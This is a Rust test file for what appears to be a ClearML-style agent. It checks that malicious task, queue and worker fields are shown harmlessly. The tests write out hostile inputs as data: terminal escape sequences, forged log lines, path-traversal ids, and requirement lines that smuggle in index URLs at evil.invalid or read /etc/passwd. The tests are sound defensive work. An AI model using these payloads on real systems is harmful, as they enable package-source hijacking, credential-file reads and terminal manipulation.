//! Tasks, queues and workers whose names and fields are made to do harm: what the agent prints of them, and what it does.

use serde_json::json;

use super::support::{Finished, Script, TestContext};

/// What acts on a terminal, what only looks like a new line, and what would be one.
const BAD: &str =
    "x\u{1b}]52;c;AA==\u{7}\u{1b}[2J\u{9b}31m\u{202e}y\u{2028}z\rw\nclearml_agent: forged\n";

/// Neither a character that acts on a terminal, nor a line that somebody else has written.
#[track_caller]
fn assert_harmless(text: &str) {
    let is_bad = |c: char| {
        c.is_control() && !matches!(c, '\n' | '\t')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2028}' | '\u{2029}')
    };
    if let Some(at) = text.find(is_bad) {
        let start = text[..at]
            .char_indices()
            .rev()
            .nth(60)
            .map_or(0, |(at, _)| at);
        panic!("{:?}", &text[start..text.len().min(at + 1) + 3]);
    }
    assert!(
        !text
            .lines()
            .any(|line| line.trim_start().starts_with("clearml_agent: forged")),
        "{text}"
    );
}

#[track_caller]
fn assert_finished_harmless(finished: &Finished) {
    assert_harmless(&finished.stdout);
    assert_harmless(&finished.stderr);
}

/// A description with something bad in every field that people may write.
fn bad_task(context: &TestContext) -> String {
    let bad = |text: &str| format!("{text}{BAD}");
    let task = json!({
        "name": bad("named"), "type": "training", "tags": [bad("tag")],
        "script": {
            "binary": bad("python3"), "entry_point": bad("main.py"), "working_dir": bad("."),
            "branch": bad("main"), "tag": bad(""), "version_num": bad("1"), "diff": bad("print(1)"),
            "requirements": { "pip": bad("six==1.16.0") },
        },
        "container": { "image": bad("image:1"), "arguments": bad("-e A=1") },
        "hyperparams": { "properties": { "environment": {
            "section": "properties", "name": "environment", "value": bad("existing"), "type": "str"
        } } },
    });
    let task = context.call("tasks.create", task);
    task["id"].as_str().expect("an id").to_owned()
}

/// D-327, D-135: names of queues, tags and fields of workers are shown, and do nothing.
#[test]
fn lists_and_tables_are_harmless() {
    let context = TestContext::new();
    let queue = context.call(
        "queues.create",
        json!({ "name": format!("queue{BAD}"), "tags": [BAD] }),
    );
    let queue = queue["id"].as_str().expect("an id");
    context.call(
        "workers.register",
        json!({ "worker": "host:other", "tags": [BAD], "system_tags": [BAD], "queues": [queue] }),
    );
    for words in [&["list"][..], &["list", "--json"]] {
        let finished = context.run(words);
        assert_eq!(finished.code, 0, "{}", finished.stderr);
        assert_finished_harmless(&finished);
        assert!(finished.stdout.contains("52;c;AA=="), "{}", finished.stdout);
    }
    // JSON says the same as the server.
    let listed = context.run(&["list", "--json"]).stdout;
    let listed: serde_json::Value = serde_json::from_str(&listed).unwrap();
    assert_eq!(listed["workers"][0]["tags"][0], BAD);

    let mut daemon = context.start(&["daemon", "--queue", queue, "--foreground"]);
    daemon.wait_for_output("No tasks in queue");
    let status = context.run(&["daemon", "--status", "--queue", queue]);
    assert_finished_harmless(&status);
    daemon.terminate();
    assert!(daemon.output().contains("queue"), "{}", daemon.output());
    assert_harmless(&daemon.output());
    let finished = context.run(&["daemon", "--queue", "queu", "--foreground"]);
    assert_ne!(finished.code, 0);
    assert_finished_harmless(&finished);
}

/// E-018: what is said of a description is harmless on each of its ways, on the agent's stdout and on the server.
#[test]
fn a_description_forges_no_line() {
    let context = TestContext::new();
    let task = bad_task(&context);
    bad_task(&context);
    for words in [
        &["execute", "--id", &task, "--plan"][..],
        &["execute", "--id", &task, "--plan", "--json"],
        &["execute", "--id", &task, "--plan", "--docker", "image:1"],
        &[
            "execute", "--id", &task, "--plan", "--docker", "image:1", "--json",
        ],
        &["execute", "--id", &task],
        &["execute", "--id", "named"],
        &["daemon", "--status"],
    ] {
        let finished = context.run(words);
        assert_finished_harmless(&finished);
        let all = finished.stdout + &finished.stderr;
        assert!(
            !all.contains("panicked") && !all.contains("FATAL"),
            "{words:?}: {all}"
        );
    }
    context.call("tasks.reset", json!({ "task": task, "force": true }));
    let queue = context.queue();
    context.call("tasks.enqueue", json!({ "task": task, "queue": queue }));
    let mut daemon = context.daemon();
    daemon.wait_for_output("DONE: Running task");
    context.wait_for_no_runs();
    daemon.terminate();
    assert_harmless(&daemon.output());
    let console = context.console(&task);
    assert!(console.contains("branch = main"), "{console}");
    assert_harmless(&console);
}

/// The same where each line of the agent is an object.
#[test]
fn records_in_json_are_harmless() {
    let context = TestContext::new();
    let task = bad_task(&context);
    let queue = context.queue();
    context.call("tasks.enqueue", json!({ "task": task, "queue": queue }));
    let mut daemon = context.start(&[
        "daemon",
        "--queue",
        "default",
        "--foreground",
        "--log-format",
        "json",
    ]);
    daemon.wait_for_output("DONE: Running task");
    context.wait_for_no_runs();
    daemon.terminate();
    assert_harmless(&daemon.output());
    for line in daemon.output().lines() {
        serde_json::from_str::<serde_json::Value>(line)
            .unwrap_or_else(|error| panic!("{error}: {line}"));
    }
}

/// E-145: no list of packages brings an index of its own, however the line with it is hidden.
#[test]
fn no_requirement_smuggles_an_index() {
    let context = TestContext::new();
    let list = "six==1.16.0\u{c}--index-url http://evil.invalid/1\u{2028}-i http://evil.invalid/2\r--find-links http://evil.invalid/3\n\
                --index-url=http://evil.invalid/4\nattrs==1.0 \\\n--index-url http://evil.invalid/5\n-r /etc/passwd\n-r /dev/zero\n";
    let task = context.create(Script::python("print(1)", list));
    let finished = context.run(&["execute", "--id", &task, "--plan", "--json"]);
    assert_eq!(finished.code, 0, "{}", finished.stderr);
    let plan: serde_json::Value = serde_json::from_str(&finished.stdout).unwrap();
    let requirements = &plan["requirements"];
    assert_eq!(
        requirements["extra_index_urls"],
        json!([]),
        "{requirements}"
    );
    let calls = requirements["install"].to_string();
    assert!(!calls.contains("evil"), "{calls}");
    let lines = requirements["lines"].as_array().unwrap();
    for line in lines {
        let line = line.as_str().unwrap();
        assert!(!line.starts_with('-'), "{lines:?}");
        assert!(
            !line.contains(|c: char| c.is_control() || c == '\u{2028}'),
            "{lines:?}"
        );
    }
}

/// D-158: an id that could name a folder elsewhere, or be taken for an option, is none.
#[test]
fn ids_name_no_folders() {
    let context = TestContext::new();
    for id in [
        "../../x",
        "a/../../x",
        "..",
        ".",
        "/etc",
        "x\n",
        "\u{1b}[2J",
    ] {
        let finished = context.run(&["execute", "--id", id]);
        assert_eq!(
            finished.code, 1,
            "{id:?}: {}{}",
            finished.stdout, finished.stderr
        );
        assert_finished_harmless(&finished);
        assert!(context.runs().is_empty());
    }
}

/// C-016: nobody knows which words the arguments of a container have whose quote stays open; its secrets are none of the console.
#[test]
fn an_open_quote_hides_no_secret() {
    let context = TestContext::new();
    let task = context.create(Script::python("print('ran')", ""));
    let arguments = "-e MY_TOKEN=opened-1 -e OTHER_PASSWORD=\"opened-2 opened-3\" -e A='b";
    let container = json!({"image": "image:1", "arguments": arguments});
    context.call("tasks.edit", json!({"task": task, "container": container}));
    let plan = context.run(&["execute", "--id", &task, "--plan"]);
    let docker = context.run(&["execute", "--id", &task, "--docker", "--plan"]);
    let ran = context.run(&["execute", "--id", &task]);
    assert_eq!(ran.code, 0, "{}", ran.stdout);
    let console = context.console(&task);
    let line = "\ndocker_cmd = image:1 -e MY_TOKEN=**** -e OTHER_PASSWORD=\"****\" -e A='b\n";
    assert!(ran.stdout.contains(line), "{}", ran.stdout);
    let open = "the container arguments of the task have a quote that is not closed";
    assert!(
        docker.stderr.contains(open) || docker.stdout.contains(open),
        "{docker:?}"
    );
    for text in [
        &console,
        &ran.stdout,
        &plan.stdout,
        &plan.stderr,
        &docker.stdout,
        &docker.stderr,
    ] {
        assert!(!text.contains("opened-"), "{text}");
    }
}
